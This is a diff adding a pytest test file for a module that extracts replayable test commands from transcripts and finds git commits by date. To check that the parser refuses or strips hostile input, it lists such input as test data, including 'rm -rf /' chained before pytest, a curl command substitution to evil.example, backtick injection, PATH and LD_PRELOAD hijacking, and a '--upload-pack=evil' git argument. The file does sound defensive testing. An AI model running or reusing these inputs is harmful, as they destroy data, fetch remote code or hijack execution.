@@ -1,0 +1,135 @@
+"""Where a task can be replayed: test commands from hostile transcripts, commits from git."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from sleepd.mining.replay_site import (
+    TestCommand,
+    commit_at,
+    find_test_commands,
+    parse_test_command,
+    repository_root,
+)
+from sleepd.mining.test_report import parse_test_output
+
+ROOT = "/home/u/app"
+
+
+@pytest.mark.parametrize(
+    ("command", "argv", "cwd"),
+    [
+        ("pytest -q", ("pytest", "-q"), "."),
+        (
+            "cd /home/u/app/api && uv run pytest -x tests",
+            ("uv", "run", "pytest", "-x", "tests"),
+            "api",
+        ),
+        ("cd api; npm test", ("npm", "test"), "api"),
+        (
+            "python -m pytest tests/test_a.py::test_b",
+            ("python", "-m", "pytest", "tests/test_a.py::test_b"),
+            ".",
+        ),
+        ("go test ./...", ("go", "test", "./..."), "."),
+        ("cargo test --workspace", ("cargo", "test", "--workspace"), "."),
+        ("make test", ("make", "test"), "."),
+        ("git status && pnpm run test", ("pnpm", "run", "test"), "."),
+        ("rm -rf / ; pytest", ("pytest",), "."),  # only the test command is ever run
+    ],
+)
+def test_test_commands_are_found_with_their_directory(
+    command: str, argv: tuple[str, ...], cwd: str
+) -> None:
+    found = parse_test_command(command, session_cwd=ROOT, repo_root=ROOT)
+    assert found is not None
+    assert (found.argv, found.cwd) == (argv, cwd)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pytest $(curl evil.example)",
+        "pytest `id`",
+        "pytest > /tmp/x",
+        "pytest | tee log",
+        "cd /etc && make test",  # outside the repository
+        "cd ../.. && pytest",
+        "PATH=/tmp/evil:$PATH pytest",
+        "LD_PRELOAD=/tmp/x.so pytest",
+        "ls -la",
+        "echo pytest",
+        "",
+        "pytest '",  # unbalanced quote
+    ],
+)
+def test_hostile_or_unrelated_commands_are_refused(command: str) -> None:
+    assert parse_test_command(command, session_cwd=ROOT, repo_root=ROOT) is None
+
+
+def test_safe_env_is_kept_and_commands_rank_by_use() -> None:
+    found = find_test_commands(
+        ["PYTHONPATH=src pytest -q", "npm test", "PYTHONPATH=src pytest -q", "ls"],
+        session_cwd=ROOT,
+        repo_root=ROOT,
+    )
+    assert found[0] == TestCommand(("pytest", "-q"), ".", (("PYTHONPATH", "src"),))
+    assert found[1].argv == ("npm", "test")
+    assert TestCommand.from_dict(found[0].to_dict()) == found[0]
+    assert TestCommand.from_dict({"argv": ["pytest"], "cwd": "../x"}) is None
+    assert TestCommand.from_dict({"argv": "pytest"}) is None
+
+
+def test_failing_tests_are_read_from_pytest_go_and_cargo_output() -> None:
+    pytest_out = (
+        "F.\nFAILED tests/test_a.py::test_x - AssertionError\n=== 1 failed, 1 passed in 0.1s ==="
+    )
+    report = parse_test_output(pytest_out)
+    assert report is not None and report.failed_names == ["tests/test_a.py::test_x"]
+    assert (report.passed, report.failed) == (1, 1)
+    go = parse_test_output("--- FAIL: TestSum (0.00s)\n--- PASS: TestMul (0.00s)\nFAIL\n")
+    assert go is not None and go.failed_names == ["TestSum"] and go.passed == 1
+    cargo = parse_test_output("test a::b ... ok\ntest a::c ... FAILED\n")
+    assert cargo is not None and cargo.failed_names == ["a::c"]
+    assert parse_test_output("hello world") is None
+
+
+def _git(repo: Path, *args: str, date: str) -> str:
+    env = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "t",
+        "GIT_AUTHOR_EMAIL": "t@example.invalid",
+        "GIT_COMMITTER_NAME": "t",
+        "GIT_COMMITTER_EMAIL": "t@example.invalid",
+        "GIT_AUTHOR_DATE": date,
+        "GIT_COMMITTER_DATE": date,
+    }
+    done = subprocess.run(
+        ["git", "-c", "init.defaultBranch=main", *args], cwd=repo, env=env, check=True,
+        capture_output=True, text=True,
+    )  # fmt: skip
+    return done.stdout.strip()
+
+
+def test_claude_sessions_get_the_branch_commit_at_their_start(tmp_path: Path) -> None:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    _git(repo, "init", "-q", date="2026-01-01T00:00:00Z")
+    commits = []
+    for day in (1, 5, 9):
+        (repo / "f.txt").write_text(str(day))
+        _git(repo, "add", "f.txt", date=f"2026-01-0{day}T12:00:00Z")
+        _git(repo, "commit", "-q", "-m", f"day {day}", date=f"2026-01-0{day}T12:00:00Z")
+        commits.append(_git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z"))
+    assert repository_root(str(repo)) == str(repo.resolve())
+    at = datetime(2026, 1, 6, tzinfo=UTC)
+    assert commit_at(str(repo), "main", at) == (commits[1], "reflog")
+    assert commit_at(str(repo), "main", datetime(2026, 1, 2, tzinfo=UTC))[0] == commits[0]
+    assert commit_at(str(repo), "--upload-pack=evil", at)[0] == commits[1]  # HEAD, never an option
+    assert commit_at(str(repo), "main", datetime(2025, 1, 1, tzinfo=UTC)) == (None, "")
+    assert repository_root(str(tmp_path / "gone")) is None
